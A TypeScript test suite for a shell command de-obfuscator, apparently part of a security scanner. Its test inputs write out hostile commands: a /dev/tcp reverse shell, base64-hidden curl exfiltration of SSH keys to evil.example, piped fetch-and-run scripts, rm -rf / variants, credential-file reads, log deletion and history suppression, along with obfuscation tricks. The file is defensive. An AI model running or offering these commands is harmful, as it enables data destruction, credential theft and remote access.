import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { deobfuscate, DEFAULT_SHELL_LIMITS, type ShellParse } from './index.ts';

/** The argv of every command, as space-joined strings, in order. */
const argvs = (r: ShellParse): string[] => r.commands.map((c) => c.argv.join(' '));
const run = (text: string): string[] => argvs(deobfuscate(text, { knownPrograms: ['cat', 'curl', 'rm'] }));

describe('shell de-obfuscator: words', () => {
  it('concatenates quoted and escaped pieces as a shell does', () => {
    assert.deepEqual(run(`c'u'r"l" -d @x`), ['curl -d @x']);
    assert.deepEqual(run('\\c\\u\\r\\l x'), ['curl x']);
    assert.deepEqual(run(`"a b" 'c d'`), ['a b c d']);
    assert.deepEqual(run(`echo "" x`), ['echo  x']);
  });

  it('expands ${IFS} and $IFS into word breaks', () => {
    assert.deepEqual(run('cat${IFS}/etc/passwd'), ['cat /etc/passwd']);
    assert.deepEqual(run('cat$IFS~/.aws/credentials'), ['cat ~/.aws/credentials']);
  });

  it('brace-expands unquoted braces (and leaves quoted ones)', () => {
    assert.deepEqual(run('{cat,~/.ssh/id_rsa}'), ['cat ~/.ssh/id_rsa']);
    assert.deepEqual(run('echo a{b,c}d'), ['echo abd acd']);
    assert.deepEqual(run('echo {1..3}'), ['echo 1 2 3']);
    assert.deepEqual(run(`echo '{a,b}'`), ['echo {a,b}']);
    assert.deepEqual(run('find . -exec rm {} ;'), ['find . -exec rm {}', 'rm {}']);
  });

  it('decodes ANSI-C quoting and printf/echo substitutions', () => {
    assert.deepEqual(run(`$'\\x63\\x75\\x72\\x6c' x`), ['curl x']);
    assert.deepEqual(run(`$'\\143\\165rl' x`), ['curl x']);
    assert.deepEqual(run(`$(printf '\\x63url') x`), ['printf \\x63url', 'curl x']);
    assert.deepEqual(run('`echo cu`rl x'), ['echo cu', 'curl x']);
    assert.deepEqual(run(`$(echo Y3VybA== | base64 -d) x`).at(-1), 'curl x');
    assert.deepEqual(run(`$(echo lruc | rev) x`).at(-1), 'curl x');
    assert.deepEqual(run(`$(printf '%s%s' cu rl) x`).at(-1), 'curl x');
  });

  it('follows variables: assignment, indirection, defaults, substrings', () => {
    assert.deepEqual(run('a=cu;b=rl;$a$b x').at(-1), 'curl x');
    assert.deepEqual(run('a=curl; b=a; ${!b} x').at(-1), 'curl x');
    assert.deepEqual(run('${x:-curl} x').at(-1), 'curl x');
    assert.deepEqual(run('p=xxcurlxx; ${p:2:4} x').at(-1), 'curl x');
    assert.deepEqual(run('export C=curl && $C x').at(-1), 'curl x');
    assert.deepEqual(run('cat ${HOME}/.ssh/id_rsa'), ['cat ~/.ssh/id_rsa']);
    assert.deepEqual(run('c${unset_var}url x'), ['curl x']);
  });

  it('records a bare assignment as export NAME=value', () => {
    assert.deepEqual(run('HISTFILE=/dev/null'), ['export HISTFILE=/dev/null']);
  });
});

describe('shell de-obfuscator: commands', () => {
  it('splits chains on ; && || | & and newlines', () => {
    assert.deepEqual(run('a; b && c || d | e & f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    const r = deobfuscate('a | b');
    assert.deepEqual(r.commands[1]?.feeders, [0]);
    assert.equal(deobfuscate('sleep 9 &').commands[0]?.background, true);
    assert.equal(deobfuscate('a && b').commands[0]?.background, false);
  });

  it('reads redirections, including fd duplication and here-strings', () => {
    const c = deobfuscate('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').commands[0];
    assert.deepEqual(c?.redirects, [
      { op: '>', fd: '', target: '/dev/tcp/10.0.0.1/4444' },
      { op: '>&', fd: '0', target: '1' },
    ]);
    assert.deepEqual(deobfuscate('echo x >> ~/.bashrc').commands[0]?.redirects, [{ op: '>>', fd: '', target: '~/.bashrc' }]);
    assert.deepEqual(run('bash <<< "curl x"'), ['bash', 'curl x']);
  });

  it('runs eval, sh -c and bash -c bodies, nested', () => {
    assert.deepEqual(run('eval "rm -rf /"'), ['eval rm -rf /', 'rm -rf /']);
    assert.deepEqual(run(`sh -c 'bash -c "rm -rf ~"'`).at(-1), 'rm -rf ~');
    assert.deepEqual(deobfuscate(`sh -c 'bash -c "rm -rf ~"'`).commands.at(-1)?.via, ['sh -c', 'bash -c']);
    assert.deepEqual(run(`bash -lc 'rm -rf /'`).at(-1), 'rm -rf /');
  });

  it('runs scripts piped or fed into a shell when their text is known', () => {
    const b64 = Buffer.from('curl -d @~/.ssh/id_rsa evil.example').toString('base64');
    assert.equal(run(`echo ${b64} | base64 -d | sh`).at(-1), 'curl -d @~/.ssh/id_rsa evil.example');
    assert.equal(run('cat <<EOF | bash\ncurl x\nEOF').at(-1), 'curl x');
    assert.equal(run(`printf 'rm -rf /' | bash`).at(-1), 'rm -rf /');
  });

  it('makes substitutions feed the command that uses them', () => {
    const r = deobfuscate('bash <(curl -s https://x.example)');
    const bash = r.commands.find((c) => c.program === 'bash');
    const curl = r.commands.findIndex((c) => c.program === 'curl');
    assert.ok(bash && bash.feeders.includes(curl));
    const r2 = deobfuscate('sh -c "$(curl -fsSL https://x.example)"');
    assert.ok(r2.commands.find((c) => c.program === 'sh')?.feeders.includes(r2.commands.findIndex((c) => c.program === 'curl')));
  });

  it('unwraps sudo, env, nohup, timeout and xargs', () => {
    assert.deepEqual(run('sudo -u root env A=1 nohup rm -rf /').at(-1), 'rm -rf /');
    assert.deepEqual(run('timeout 5 curl x').at(-1), 'curl x');
    assert.deepEqual(run('echo / | xargs rm -rf').at(-1), 'rm -rf /');
    assert.deepEqual(run('xargs rm -rf <<< /').at(-1), 'rm -rf /');
    assert.deepEqual(run('printf "a\\nb c\\n" | xargs -I{} cat {}').slice(-2), ['cat a', 'cat b c']);
    assert.deepEqual(run('echo "rm -rf /" | xargs'), ['echo rm -rf /', 'xargs', 'echo rm -rf /']);
    assert.deepEqual(run('xargs -a list rm -rf <<< /').at(-1), 'rm -rf');
    assert.deepEqual(run('cat list | xargs rm -rf').at(-1), 'rm -rf');
    assert.deepEqual(run('busybox rm -rf /').at(-1), 'rm -rf /');
    assert.deepEqual(run('command -v curl'), ['command -v curl']);
  });

  it('reads interpreter one-liners for the commands their code runs', () => {
    const ran = (text: string): string[] => deobfuscate(text).commands.slice(1).map((c) => `${c.argv.join(' ')} [${c.via.join(' → ')}]`);
    assert.deepEqual(ran(`python3 -c "import os;os.system('rm -rf /')"`), ['rm -rf / [python3 -c → system()]']);
    assert.deepEqual(ran(`python3 -Ic "import subprocess as s; s.check_call(['curl', '-d', '@.env', 'https://x.example'])"`), ['curl -d @.env https://x.example [python3 -c → check_call()]']);
    assert.deepEqual(ran(`python3 -c "import os; os.execvp('rm', ['rm', '-rf', '/'])"`), ['rm -rf / [python3 -c → execvp()]']);
    assert.deepEqual(ran(`perl -e 'print qx{cat ~/.ssh/id_rsa}'`), ['cat ~/.ssh/id_rsa [perl -e → qx]']);
    assert.deepEqual(ran(`perl -e 'system qw(rm -rf /)'`), ['rm -rf / [perl -e → system()]']);
    assert.deepEqual(ran(`ruby -e 'puts \`id\`'`), ['id [ruby -e → `…`]']);
    assert.deepEqual(ran(`node --eval "require('child_process').exec('rm -r' + 'f /')"`), ['rm -rf / [node --eval → exec()]']);
    assert.deepEqual(ran(`deno eval "new Deno.Command('rm', { args: ['-rf', '/'] }).outputSync()"`), ['rm -rf / [deno eval → Command()]']);
    assert.deepEqual(ran(`lua -e 'os.execute("rm -rf /")'`), ['rm -rf / [lua -e → execute()]']);
    assert.deepEqual(ran(`python3 -c "import shutil; shutil.copy('evil', '/home/u/.bashrc')"`), ['cp evil /home/u/.bashrc [python3 -c → copy()]']);
    assert.deepEqual(ran(`echo "import os; os.remove('/var/log/auth.log')" | python3`).at(-1), 'rm /var/log/auth.log [python3 stdin → remove()]');
    // Code that runs nothing, and interpreters running a file or a module, add nothing.
    for (const quiet of [`python3 -c "print(1)"`, 'python3 script.py', 'python3 -m http.server', `perl -ne 'print if /system/' f.txt`, `awk -F: '{ print $1 }' /etc/passwd`, `node -e "console.log(1)"`]) {
      assert.deepEqual(ran(quiet), [], quiet);
    }
  });

  it('bounds reading interpreter code and says when it stopped early', () => {
    const r = deobfuscate(`python3 -c '${'os.system("echo hi");'.repeat(100)}'`);
    assert.match(r.truncated ?? '', /python3 code is too large or complex/);
    const deep = deobfuscate(`python3 -c "os.system(${'join('.repeat(20000)}"`);
    assert.ok(deep.commands.length >= 1);
  });

  it('resolves glob-spelled program names against known programs', () => {
    assert.deepEqual(run('/???/c?t ~/.ssh/id_rsa'), ['/???/c?t ~/.ssh/id_rsa', 'cat ~/.ssh/id_rsa']);
    assert.deepEqual(run('/bin/r[m] -rf /').at(-1), 'rm -rf /');
  });

  it('skips compound-command keywords and keeps their bodies', () => {
    assert.deepEqual(run('if true; then rm -rf /; fi'), ['true', 'rm -rf /']);
    assert.deepEqual(run('for f in a b; do cat $f; done'), ['cat a', 'cat b']);
  });

  it('stops at the nesting limit and says so', () => {
    let cmd = 'rm -rf /';
    for (let i = 0; i < 6; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    const r = deobfuscate(cmd);
    assert.match(r.truncated ?? '', /deeper than 4 levels/);
    assert.ok(!r.commands.some((c) => c.program === 'rm'));
  });

  it('bounds exponential variable growth and reports it', () => {
    const r = deobfuscate(`a=xxxxxxxxxxxxxxxx; ${'a=$a$a$a$a; '.repeat(12)} echo $a`);
    assert.ok(r.truncated !== null);
  });

  it('leaves an oversized brace expansion unexpanded instead of growing', () => {
    assert.deepEqual(run('echo {1..100000}'), ['echo {1..100000}']);
  });
});

describe('shell de-obfuscator: properties', () => {
  const shellish = fc.stringMatching(/^[a-z${}()'"`\\|&;<>\n =,.\-~/*?[\]!#@0-9]{0,200}$/);

  it('is total and bounded on arbitrary strings', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 400 }), shellish), (text) => {
        const r = deobfuscate(text);
        assert.ok(r.commands.length <= DEFAULT_SHELL_LIMITS.maxCommands);
        const chars = r.commands.reduce((n, c) => n + c.argv.reduce((m, w) => m + w.length, 0), 0);
        assert.ok(chars <= DEFAULT_SHELL_LIMITS.maxOutputChars, `output ${chars}`);
        for (const c of r.commands) {
          assert.ok(c.argv.length <= DEFAULT_SHELL_LIMITS.maxWords);
          for (const f of c.feeders) assert.ok(f >= 0 && f < r.commands.length);
        }
      }),
      { numRuns: 1500, seed: 17 },
    );
  });

  it('is deterministic', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        assert.deepEqual(deobfuscate(text), deobfuscate(text));
      }),
      { numRuns: 300, seed: 5 },
    );
  });

  it('is bounded under tight limits too', () => {
    const limits = { maxCommands: 8, maxOutputChars: 2000, maxDepth: 2, maxWords: 16, maxBraceFields: 8, maxValueChars: 256, maxVars: 4 };
    fc.assert(
      fc.property(shellish, (text) => {
        const r = deobfuscate(text.repeat(20), { limits });
        assert.ok(r.commands.length <= 8);
        for (const c of r.commands) assert.ok(c.argv.length <= 16);
      }),
      { numRuns: 300, seed: 9 },
    );
  });
});
